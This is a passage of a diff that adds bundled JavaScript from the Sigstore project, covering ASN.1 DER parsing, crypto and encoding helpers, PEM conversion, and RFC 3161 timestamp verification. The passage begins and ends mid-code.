+	const RE_TIME_LONG_YEAR = /^(\d{4})(\d{2})(\d{2})(\d{2})(\d{2})(\d{2})(\.\d{3})?Z$/;
+	// Parse a BigInt from the DER-encoded buffer
+	// https://learn.microsoft.com/en-us/windows/win32/seccertenroll/about-integer
+	function parseInteger(buf) {
+	    let pos = 0;
+	    const end = buf.length;
+	    let val = buf[pos];
+	    const neg = val > 0x7f;
+	    // Consume any padding bytes
+	    const pad = neg ? 0xff : 0x00;
+	    while (val == pad && ++pos < end) {
+	        val = buf[pos];
+	    }
+	    // Calculate remaining bytes to read
+	    const len = end - pos;
+	    if (len === 0)
+	        return BigInt(neg ? -1 : 0);
+	    // Handle two's complement for negative numbers
+	    val = neg ? val - 256 : val;
+	    // Parse remaining bytes
+	    let n = BigInt(val);
+	    for (let i = pos + 1; i < end; ++i) {
+	        n = n * BigInt(256) + BigInt(buf[i]);
+	    }
+	    return n;
+	}
+	// Parse an ASCII string from the DER-encoded buffer
+	// https://learn.microsoft.com/en-us/windows/win32/seccertenroll/about-basic-types#boolean
+	function parseStringASCII(buf) {
+	    return buf.toString('ascii');
+	}
+	// Parse a Date from the DER-encoded buffer
+	// https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.5.1
+	function parseTime(buf, shortYear) {
+	    const timeStr = parseStringASCII(buf);
+	    // Parse the time string into matches - captured groups start at index 1
+	    const m = shortYear
+	        ? RE_TIME_SHORT_YEAR.exec(timeStr)
+	        : RE_TIME_LONG_YEAR.exec(timeStr);
+	    if (!m) {
+	        throw new Error('invalid time');
+	    }
+	    // Translate dates with a 2-digit year to 4 digits per the spec
+	    if (shortYear) {
+	        let year = Number(m[1]);
+	        year += year >= 50 ? 1900 : 2000;
+	        m[1] = year.toString();
+	    }
+	    // Translate to ISO8601 format and parse
+	    return new Date(`${m[1]}-${m[2]}-${m[3]}T${m[4]}:${m[5]}:${m[6]}Z`);
+	}
+	// Parse an OID from the DER-encoded buffer
+	// https://learn.microsoft.com/en-us/windows/win32/seccertenroll/about-object-identifier
+	function parseOID(buf) {
+	    let pos = 0;
+	    const end = buf.length;
+	    // Consume first byte which encodes the first two OID components
+	    let n = buf[pos++];
+	    const first = Math.floor(n / 40);
+	    const second = n % 40;
+	    let oid = `${first}.${second}`;
+	    // Consume remaining bytes
+	    let val = 0;
+	    for (; pos < end; ++pos) {
+	        n = buf[pos];
+	        val = (val << 7) + (n & 0x7f);
+	        // If the left-most bit is NOT set, then this is the last byte in the
+	        // sequence and we can add the value to the OID and reset the accumulator
+	        if ((n & 0x80) === 0) {
+	            oid += `.${val}`;
+	            val = 0;
+	        }
+	    }
+	    return oid;
+	}
+	// Parse a boolean from the DER-encoded buffer
+	// https://learn.microsoft.com/en-us/windows/win32/seccertenroll/about-basic-types#boolean
+	function parseBoolean(buf) {
+	    return buf[0] !== 0;
+	}
+	// Parse a bit string from the DER-encoded buffer
+	// https://learn.microsoft.com/en-us/windows/win32/seccertenroll/about-bit-string
+	function parseBitString(buf) {
+	    // First byte tell us how many unused bits are in the last byte
+	    const unused = buf[0];
+	    const start = 1;
+	    const end = buf.length;
+	    const bits = [];
+	    for (let i = start; i < end; ++i) {
+	        const byte = buf[i];
+	        // The skip value is only used for the last byte
+	        const skip = i === end - 1 ? unused : 0;
+	        // Iterate over each bit in the byte (most significant first)
+	        for (let j = 7; j >= skip; --j) {
+	            // Read the bit and add it to the bit string
+	            bits.push((byte >> j) & 0x01);
+	        }
+	    }
+	    return bits;
+	}
+	return parse;
+}
+
+var tag = {};
+
+var hasRequiredTag;
+
+function requireTag () {
+	if (hasRequiredTag) return tag;
+	hasRequiredTag = 1;
+	Object.defineProperty(tag, "__esModule", { value: true });
+	tag.ASN1Tag = void 0;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const error_1 = requireError$2();
+	const UNIVERSAL_TAG = {
+	    BOOLEAN: 0x01,
+	    INTEGER: 0x02,
+	    BIT_STRING: 0x03,
+	    OCTET_STRING: 0x04,
+	    OBJECT_IDENTIFIER: 0x06,
+	    UTC_TIME: 0x17,
+	    GENERALIZED_TIME: 0x18,
+	};
+	const TAG_CLASS = {
+	    UNIVERSAL: 0x00,
+	    CONTEXT_SPECIFIC: 0x02};
+	// https://learn.microsoft.com/en-us/windows/win32/seccertenroll/about-encoded-tag-bytes
+	class ASN1Tag {
+	    number;
+	    constructed;
+	    class;
+	    constructor(enc) {
+	        // Bits 0 through 4 are the tag number
+	        this.number = enc & 0x1f;
+	        // Bit 5 is the constructed bit
+	        this.constructed = (enc & 0x20) === 0x20;
+	        // Bit 6 & 7 are the class
+	        this.class = enc >> 6;
+	        if (this.number === 0x1f) {
+	            throw new error_1.ASN1ParseError('long form tags not supported');
+	        }
+	        if (this.class === TAG_CLASS.UNIVERSAL && this.number === 0x00) {
+	            throw new error_1.ASN1ParseError('unsupported tag 0x00');
+	        }
+	    }
+	    isUniversal() {
+	        return this.class === TAG_CLASS.UNIVERSAL;
+	    }
+	    isContextSpecific(num) {
+	        const res = this.class === TAG_CLASS.CONTEXT_SPECIFIC;
+	        return num !== undefined ? res && this.number === num : res;
+	    }
+	    isBoolean() {
+	        return this.isUniversal() && this.number === UNIVERSAL_TAG.BOOLEAN;
+	    }
+	    isInteger() {
+	        return this.isUniversal() && this.number === UNIVERSAL_TAG.INTEGER;
+	    }
+	    isBitString() {
+	        return this.isUniversal() && this.number === UNIVERSAL_TAG.BIT_STRING;
+	    }
+	    isOctetString() {
+	        return this.isUniversal() && this.number === UNIVERSAL_TAG.OCTET_STRING;
+	    }
+	    isOID() {
+	        return (this.isUniversal() && this.number === UNIVERSAL_TAG.OBJECT_IDENTIFIER);
+	    }
+	    isUTCTime() {
+	        return this.isUniversal() && this.number === UNIVERSAL_TAG.UTC_TIME;
+	    }
+	    isGeneralizedTime() {
+	        return this.isUniversal() && this.number === UNIVERSAL_TAG.GENERALIZED_TIME;
+	    }
+	    toDER() {
+	        return this.number | (this.constructed ? 0x20 : 0x00) | (this.class << 6);
+	    }
+	}
+	tag.ASN1Tag = ASN1Tag;
+	return tag;
+}
+
+var hasRequiredObj;
+
+function requireObj () {
+	if (hasRequiredObj) return obj;
+	hasRequiredObj = 1;
+	Object.defineProperty(obj, "__esModule", { value: true });
+	obj.ASN1Obj = void 0;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const stream_1 = requireStream();
+	const error_1 = requireError$2();
+	const length_1 = requireLength();
+	const parse_1 = requireParse();
+	const tag_1 = requireTag();
+	class ASN1Obj {
+	    tag;
+	    subs;
+	    value;
+	    constructor(tag, value, subs) {
+	        this.tag = tag;
+	        this.value = value;
+	        this.subs = subs;
+	    }
+	    // Constructs an ASN.1 object from a Buffer of DER-encoded bytes.
+	    static parseBuffer(buf) {
+	        return parseStream(new stream_1.ByteStream(buf));
+	    }
+	    toDER() {
+	        const valueStream = new stream_1.ByteStream();
+	        if (this.subs.length > 0) {
+	            for (const sub of this.subs) {
+	                valueStream.appendView(sub.toDER());
+	            }
+	        }
+	        else {
+	            valueStream.appendView(this.value);
+	        }
+	        const value = valueStream.buffer;
+	        // Concat tag/length/value
+	        const obj = new stream_1.ByteStream();
+	        obj.appendChar(this.tag.toDER());
+	        obj.appendView((0, length_1.encodeLength)(value.length));
+	        obj.appendView(value);
+	        return obj.buffer;
+	    }
+	    /////////////////////////////////////////////////////////////////////////////
+	    // Convenience methods for parsing ASN.1 primitives into JS types
+	    // Returns the ASN.1 object's value as a boolean. Throws an error if the
+	    // object is not a boolean.
+	    toBoolean() {
+	        if (!this.tag.isBoolean()) {
+	            throw new error_1.ASN1TypeError('not a boolean');
+	        }
+	        return (0, parse_1.parseBoolean)(this.value);
+	    }
+	    // Returns the ASN.1 object's value as a BigInt. Throws an error if the
+	    // object is not an integer.
+	    toInteger() {
+	        if (!this.tag.isInteger()) {
+	            throw new error_1.ASN1TypeError('not an integer');
+	        }
+	        return (0, parse_1.parseInteger)(this.value);
+	    }
+	    // Returns the ASN.1 object's value as an OID string. Throws an error if the
+	    // object is not an OID.
+	    toOID() {
+	        if (!this.tag.isOID()) {
+	            throw new error_1.ASN1TypeError('not an OID');
+	        }
+	        return (0, parse_1.parseOID)(this.value);
+	    }
+	    // Returns the ASN.1 object's value as a Date. Throws an error if the object
+	    // is not either a UTCTime or a GeneralizedTime.
+	    toDate() {
+	        switch (true) {
+	            case this.tag.isUTCTime():
+	                return (0, parse_1.parseTime)(this.value, true);
+	            case this.tag.isGeneralizedTime():
+	                return (0, parse_1.parseTime)(this.value, false);
+	            default:
+	                throw new error_1.ASN1TypeError('not a date');
+	        }
+	    }
+	    // Returns the ASN.1 object's value as a number[] where each number is the
+	    // value of a bit in the bit string. Throws an error if the object is not a
+	    // bit string.
+	    toBitString() {
+	        if (!this.tag.isBitString()) {
+	            throw new error_1.ASN1TypeError('not a bit string');
+	        }
+	        return (0, parse_1.parseBitString)(this.value);
+	    }
+	}
+	obj.ASN1Obj = ASN1Obj;
+	/////////////////////////////////////////////////////////////////////////////
+	// Internal stream parsing functions
+	function parseStream(stream) {
+	    // Parse tag, length, and value from stream
+	    const tag = new tag_1.ASN1Tag(stream.getUint8());
+	    const len = (0, length_1.decodeLength)(stream);
+	    const value = stream.slice(stream.position, len);
+	    const start = stream.position;
+	    let subs = [];
+	    // If the object is constructed, parse its children. Sometimes, children
+	    // are embedded in OCTESTRING objects, so we need to check those
+	    // for children as well.
+	    if (tag.constructed) {
+	        subs = collectSubs(stream, len);
+	    }
+	    else if (tag.isOctetString()) {
+	        // Attempt to parse children of OCTETSTRING objects. If anything fails,
+	        // assume the object is not constructed and treat as primitive.
+	        try {
+	            subs = collectSubs(stream, len);
+	        }
+	        catch (e) {
+	            // Fail silently and treat as primitive
+	        }
+	    }
+	    // If there are no children, move stream cursor to the end of the object
+	    if (subs.length === 0) {
+	        stream.seek(start + len);
+	    }
+	    return new ASN1Obj(tag, value, subs);
+	}
+	function collectSubs(stream, len) {
+	    // Calculate end of object content
+	    const end = stream.position + len;
+	    // Make sure there are enough bytes left in the stream. This should never
+	    // happen, cause it'll get caught when the stream is sliced in parseStream.
+	    // Leaving as an extra check just in case.
+	    /* istanbul ignore if */
+	    if (end > stream.length) {
+	        throw new error_1.ASN1ParseError('invalid length');
+	    }
+	    // Parse all children
+	    const subs = [];
+	    while (stream.position < end) {
+	        subs.push(parseStream(stream));
+	    }
+	    // When we're done parsing children, we should be at the end of the object
+	    if (stream.position !== end) {
+	        throw new error_1.ASN1ParseError('invalid length');
+	    }
+	    return subs;
+	}
+	return obj;
+}
+
+var hasRequiredAsn1;
+
+function requireAsn1 () {
+	if (hasRequiredAsn1) return asn1;
+	hasRequiredAsn1 = 1;
+	(function (exports) {
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.ASN1Obj = void 0;
+		/*
+		Copyright 2023 The Sigstore Authors.
+
+		Licensed under the Apache License, Version 2.0 (the "License");
+		you may not use this file except in compliance with the License.
+		You may obtain a copy of the License at
+
+		    http://www.apache.org/licenses/LICENSE-2.0
+
+		Unless required by applicable law or agreed to in writing, software
+		distributed under the License is distributed on an "AS IS" BASIS,
+		WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+		See the License for the specific language governing permissions and
+		limitations under the License.
+		*/
+		var obj_1 = requireObj();
+		Object.defineProperty(exports, "ASN1Obj", { enumerable: true, get: function () { return obj_1.ASN1Obj; } }); 
+	} (asn1));
+	return asn1;
+}
+
+var crypto = {};
+
+var hasRequiredCrypto;
+
+function requireCrypto () {
+	if (hasRequiredCrypto) return crypto;
+	hasRequiredCrypto = 1;
+	var __importDefault = (crypto && crypto.__importDefault) || function (mod) {
+	    return (mod && mod.__esModule) ? mod : { "default": mod };
+	};
+	Object.defineProperty(crypto, "__esModule", { value: true });
+	crypto.createPublicKey = createPublicKey;
+	crypto.digest = digest;
+	crypto.verify = verify;
+	crypto.bufferEqual = bufferEqual;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const crypto_1 = __importDefault(crypto__default);
+	function createPublicKey(key, type = 'spki') {
+	    if (typeof key === 'string') {
+	        if (key.startsWith('-----')) {
+	            return crypto_1.default.createPublicKey(key);
+	        }
+	        else {
+	            return crypto_1.default.createPublicKey({
+	                key: Buffer.from(key, 'base64'),
+	                format: 'der',
+	                type: type,
+	            });
+	        }
+	    }
+	    else {
+	        return crypto_1.default.createPublicKey({ key, format: 'der', type: type });
+	    }
+	}
+	function digest(algorithm, ...data) {
+	    const hash = crypto_1.default.createHash(algorithm);
+	    for (const d of data) {
+	        hash.update(d);
+	    }
+	    return hash.digest();
+	}
+	function verify(data, key, signature, algorithm) {
+	    // The try/catch is to work around an issue in Node 14.x where verify throws
+	    // an error in some scenarios if the signature is invalid.
+	    try {
+	        return crypto_1.default.verify(algorithm, data, key, signature);
+	    }
+	    catch (e) {
+	        /* istanbul ignore next */
+	        return false;
+	    }
+	}
+	function bufferEqual(a, b) {
+	    try {
+	        return crypto_1.default.timingSafeEqual(a, b);
+	    }
+	    catch {
+	        /* istanbul ignore next */
+	        return false;
+	    }
+	}
+	return crypto;
+}
+
+var dsse$3 = {};
+
+var hasRequiredDsse$3;
+
+function requireDsse$3 () {
+	if (hasRequiredDsse$3) return dsse$3;
+	hasRequiredDsse$3 = 1;
+	Object.defineProperty(dsse$3, "__esModule", { value: true });
+	dsse$3.preAuthEncoding = preAuthEncoding;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const PAE_PREFIX = 'DSSEv1';
+	// DSSE Pre-Authentication Encoding
+	function preAuthEncoding(payloadType, payload) {
+	    const typeBytes = Buffer.from(payloadType, 'utf-8');
+	    return Buffer.concat([
+	        Buffer.from(`${PAE_PREFIX} ${typeBytes.length} `, 'ascii'),
+	        typeBytes,
+	        Buffer.from(` ${payload.length} `, 'ascii'),
+	        payload,
+	    ]);
+	}
+	return dsse$3;
+}
+
+var encoding = {};
+
+var hasRequiredEncoding;
+
+function requireEncoding () {
+	if (hasRequiredEncoding) return encoding;
+	hasRequiredEncoding = 1;
+	Object.defineProperty(encoding, "__esModule", { value: true });
+	encoding.base64Encode = base64Encode;
+	encoding.base64Decode = base64Decode;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const BASE64_ENCODING = 'base64';
+	const UTF8_ENCODING = 'utf-8';
+	function base64Encode(str) {
+	    return Buffer.from(str, UTF8_ENCODING).toString(BASE64_ENCODING);
+	}
+	function base64Decode(str) {
+	    return Buffer.from(str, BASE64_ENCODING).toString(UTF8_ENCODING);
+	}
+	return encoding;
+}
+
+var json = {};
+
+var hasRequiredJson;
+
+function requireJson () {
+	if (hasRequiredJson) return json;
+	hasRequiredJson = 1;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	Object.defineProperty(json, "__esModule", { value: true });
+	json.canonicalize = canonicalize;
+	// JSON canonicalization per https://github.com/cyberphone/json-canonicalization
+	// eslint-disable-next-line @typescript-eslint/no-explicit-any
+	function canonicalize(object) {
+	    let buffer = '';
+	    if (object === null || typeof object !== 'object' || object.toJSON != null) {
+	        // Primitives or toJSONable objects
+	        buffer += JSON.stringify(object);
+	    }
+	    else if (Array.isArray(object)) {
+	        // Array - maintain element order
+	        buffer += '[';
+	        let first = true;
+	        object.forEach((element) => {
+	            if (!first) {
+	                buffer += ',';
+	            }
+	            first = false;
+	            // recursive call
+	            buffer += canonicalize(element);
+	        });
+	        buffer += ']';
+	    }
+	    else {
+	        // Object - Sort properties before serializing
+	        buffer += '{';
+	        let first = true;
+	        Object.keys(object)
+	            .sort()
+	            .forEach((property) => {
+	            if (!first) {
+	                buffer += ',';
+	            }
+	            first = false;
+	            buffer += JSON.stringify(property);
+	            buffer += ':';
+	            // recursive call
+	            buffer += canonicalize(object[property]);
+	        });
+	        buffer += '}';
+	    }
+	    return buffer;
+	}
+	return json;
+}
+
+var pem = {};
+
+var hasRequiredPem;
+
+function requirePem () {
+	if (hasRequiredPem) return pem;
+	hasRequiredPem = 1;
+	Object.defineProperty(pem, "__esModule", { value: true });
+	pem.toDER = toDER;
+	pem.fromDER = fromDER;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const PEM_HEADER = /-----BEGIN (.*)-----/;
+	const PEM_FOOTER = /-----END (.*)-----/;
+	function toDER(certificate) {
+	    let der = '';
+	    certificate.split('\n').forEach((line) => {
+	        if (line.match(PEM_HEADER) || line.match(PEM_FOOTER)) {
+	            return;
+	        }
+	        der += line;
+	    });
+	    return Buffer.from(der, 'base64');
+	}
+	// Translates a DER-encoded buffer into a PEM-encoded string. Standard PEM
+	// encoding dictates that each certificate should have a trailing newline after
+	// the footer.
+	function fromDER(certificate, type = 'CERTIFICATE') {
+	    // Base64-encode the certificate.
+	    const der = certificate.toString('base64');
+	    // Split the certificate into lines of 64 characters.
+	    const lines = der.match(/.{1,64}/g) || '';
+	    return [`-----BEGIN ${type}-----`, ...lines, `-----END ${type}-----`]
+	        .join('\n')
+	        .concat('\n');
+	}
+	return pem;
+}
+
+var rfc3161 = {};
+
+var timestamp$1 = {};
+
+var oid = {};
+
+var hasRequiredOid;
+
+function requireOid () {
+	if (hasRequiredOid) return oid;
+	hasRequiredOid = 1;
+	Object.defineProperty(oid, "__esModule", { value: true });
+	oid.SHA2_HASH_ALGOS = oid.RSA_SIGNATURE_ALGOS = oid.ECDSA_SIGNATURE_ALGOS = void 0;
+	oid.ECDSA_SIGNATURE_ALGOS = {
+	    '1.2.840.10045.4.3.1': 'sha224',
+	    '1.2.840.10045.4.3.2': 'sha256',
+	    '1.2.840.10045.4.3.3': 'sha384',
+	    '1.2.840.10045.4.3.4': 'sha512',
+	};
+	oid.RSA_SIGNATURE_ALGOS = {
+	    '1.2.840.113549.1.1.14': 'sha224',
+	    '1.2.840.113549.1.1.11': 'sha256',
+	    '1.2.840.113549.1.1.12': 'sha384',
+	    '1.2.840.113549.1.1.13': 'sha512',
+	};
+	oid.SHA2_HASH_ALGOS = {
+	    '2.16.840.1.101.3.4.2.1': 'sha256',
+	    '2.16.840.1.101.3.4.2.2': 'sha384',
+	    '2.16.840.1.101.3.4.2.3': 'sha512',
+	};
+	return oid;
+}
+
+var error$1 = {};
+
+var hasRequiredError$1;
+
+function requireError$1 () {
+	if (hasRequiredError$1) return error$1;
+	hasRequiredError$1 = 1;
+	Object.defineProperty(error$1, "__esModule", { value: true });
+	error$1.RFC3161TimestampVerificationError = void 0;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	class RFC3161TimestampVerificationError extends Error {
+	}
+	error$1.RFC3161TimestampVerificationError = RFC3161TimestampVerificationError;
+	return error$1;
+}
+
+var tstinfo = {};
+
+var hasRequiredTstinfo;
+
+function requireTstinfo () {
+	if (hasRequiredTstinfo) return tstinfo;
+	hasRequiredTstinfo = 1;
+	var __createBinding = (tstinfo && tstinfo.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+	    if (k2 === undefined) k2 = k;
+	    var desc = Object.getOwnPropertyDescriptor(m, k);
+	    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+	      desc = { enumerable: true, get: function() { return m[k]; } };
+	    }
+	    Object.defineProperty(o, k2, desc);
+	}) : (function(o, m, k, k2) {
+	    if (k2 === undefined) k2 = k;
+	    o[k2] = m[k];
+	}));
+	var __setModuleDefault = (tstinfo && tstinfo.__setModuleDefault) || (Object.create ? (function(o, v) {
+	    Object.defineProperty(o, "default", { enumerable: true, value: v });
+	}) : function(o, v) {
+	    o["default"] = v;
+	});
+	var __importStar = (tstinfo && tstinfo.__importStar) || (function () {
+	    var ownKeys = function(o) {
+	        ownKeys = Object.getOwnPropertyNames || function (o) {
+	            var ar = [];
+	            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+	            return ar;
+	        };
+	        return ownKeys(o);
+	    };
+	    return function (mod) {
+	        if (mod && mod.__esModule) return mod;
+	        var result = {};
+	        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+	        __setModuleDefault(result, mod);
+	        return result;
+	    };
+	})();
+	Object.defineProperty(tstinfo, "__esModule", { value: true });
+	tstinfo.TSTInfo = void 0;
+	const crypto = __importStar(requireCrypto());
+	const oid_1 = requireOid();
+	const error_1 = requireError$1();
+	class TSTInfo {
+	    root;
+	    constructor(asn1) {
+	        this.root = asn1;
+	    }
+	    get version() {
+	        return this.root.subs[0].toInteger();
+	    }
+	    get genTime() {
+	        return this.root.subs[4].toDate();
+	    }
+	    get messageImprintHashAlgorithm() {
+	        const oid = this.messageImprintObj.subs[0].subs[0].toOID();
+	        return oid_1.SHA2_HASH_ALGOS[oid];
+	    }
+	    get messageImprintHashedMessage() {
+	        return this.messageImprintObj.subs[1].value;
+	    }
+	    get raw() {
+	        return this.root.toDER();
+	    }
+	    verify(data) {
+	        const digest = crypto.digest(this.messageImprintHashAlgorithm, data);
+	        if (!crypto.bufferEqual(digest, this.messageImprintHashedMessage)) {
+	            throw new error_1.RFC3161TimestampVerificationError('message imprint does not match artifact');
+	        }
+	    }
+	    // https://www.rfc-editor.org/rfc/rfc3161#section-2.4.2
+	    get messageImprintObj() {
+	        return this.root.subs[2];
+	    }
+	}
+	tstinfo.TSTInfo = TSTInfo;
+	return tstinfo;
+}
+
+var hasRequiredTimestamp$1;
+
+function requireTimestamp$1 () {
+	if (hasRequiredTimestamp$1) return timestamp$1;
+	hasRequiredTimestamp$1 = 1;
+	var __createBinding = (timestamp$1 && timestamp$1.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+	    if (k2 === undefined) k2 = k;
+	    var desc = Object.getOwnPropertyDescriptor(m, k);
+	    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+	      desc = { enumerable: true, get: function() { return m[k]; } };
+	    }
+	    Object.defineProperty(o, k2, desc);
+	}) : (function(o, m, k, k2) {
+	    if (k2 === undefined) k2 = k;
+	    o[k2] = m[k];
+	}));
+	var __setModuleDefault = (timestamp$1 && timestamp$1.__setModuleDefault) || (Object.create ? (function(o, v) {
+	    Object.defineProperty(o, "default", { enumerable: true, value: v });
+	}) : function(o, v) {
+	    o["default"] = v;
+	});
+	var __importStar = (timestamp$1 && timestamp$1.__importStar) || (function () {
+	    var ownKeys = function(o) {
+	        ownKeys = Object.getOwnPropertyNames || function (o) {
+	            var ar = [];
+	            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+	            return ar;
+	        };
+	        return ownKeys(o);
+	    };
+	    return function (mod) {
+	        if (mod && mod.__esModule) return mod;
+	        var result = {};
+	        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+	        __setModuleDefault(result, mod);
+	        return result;
+	    };
+	})();
+	Object.defineProperty(timestamp$1, "__esModule", { value: true });
+	timestamp$1.RFC3161Timestamp = void 0;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const asn1_1 = requireAsn1();
+	const crypto = __importStar(requireCrypto());
+	const oid_1 = requireOid();
+	const error_1 = requireError$1();
+	const tstinfo_1 = requireTstinfo();
+	const OID_PKCS9_CONTENT_TYPE_SIGNED_DATA = '1.2.840.113549.1.7.2';
+	const OID_PKCS9_CONTENT_TYPE_TSTINFO = '1.2.840.113549.1.9.16.1.4';
+	const OID_PKCS9_MESSAGE_DIGEST_KEY = '1.2.840.113549.1.9.4';
+	class RFC3161Timestamp {
+	    root;
+	    constructor(asn1) {
+	        this.root = asn1;
+	    }
+	    static parse(der) {
+	        const asn1 = asn1_1.ASN1Obj.parseBuffer(der);
+	        return new RFC3161Timestamp(asn1);
+	    }
+	    get status() {
+	        return this.pkiStatusInfoObj.subs[0].toInteger();
+	    }
+	    get contentType() {
+	        return this.contentTypeObj.toOID();
+	    }
+	    get eContentType() {
+	        return this.eContentTypeObj.toOID();
+	    }
+	    get signingTime() {
+	        return this.tstInfo.genTime;
+	    }
+	    get signerIssuer() {
+	        return this.signerSidObj.subs[0].value;
+	    }
+	    get signerSerialNumber() {
+	        return this.signerSidObj.subs[1].value;
+	    }
+	    get signerDigestAlgorithm() {
+	        const oid = this.signerDigestAlgorithmObj.subs[0].toOID();
+	        return oid_1.SHA2_HASH_ALGOS[oid];
+	    }
+	    get signatureAlgorithm() {
+	        const oid = this.signatureAlgorithmObj.subs[0].toOID();
+	        return oid_1.ECDSA_SIGNATURE_ALGOS[oid];
+	    }
+	    get signatureValue() {
+	        return this.signatureValueObj.value;
+	    }
+	    get tstInfo() {
+	        // Need to unpack tstInfo from an OCTET STRING
+	        return new tstinfo_1.TSTInfo(this.eContentObj.subs[0].subs[0]);
+	    }
+	    verify(data, publicKey) {
+	        if (!this.timeStampTokenObj) {
+	            throw new error_1.RFC3161TimestampVerificationError('timeStampToken is missing');
+	        }
+	        // Check for expected ContentInfo content type
+	        if (this.contentType !== OID_PKCS9_CONTENT_TYPE_SIGNED_DATA) {
+	            throw new error_1.RFC3161TimestampVerificationError(`incorrect content type: ${this.contentType}`);
+	        }
+	        // Check for expected encapsulated content type
+	        if (this.eContentType !== OID_PKCS9_CONTENT_TYPE_TSTINFO) {
+	            throw new error_1.RFC3161TimestampVerificationError(`incorrect encapsulated content type: ${this.eContentType}`);
+	        }
+	        // Check that the tstInfo references the correct artifact
+	        this.tstInfo.verify(data);
+	        // Check that the signed message digest matches the tstInfo
+	        this.verifyMessageDigest();
+	        // Check that the signature is valid for the signed attributes
+	        this.verifySignature(publicKey);
+	    }
+	    verifyMessageDigest() {
+	        // Check that the tstInfo matches the signed data
+	        const tstInfoDigest = crypto.digest(this.signerDigestAlgorithm, this.tstInfo.raw);
+	        const expectedDigest = this.messageDigestAttributeObj.subs[1].subs[0].value;
+	        if (!crypto.bufferEqual(tstInfoDigest, expectedDigest)) {
+	            throw new error_1.RFC3161TimestampVerificationError('signed data does not match tstInfo');
+	        }
+	    }
+	    verifySignature(key) {
+	        // Encode the signed attributes for verification
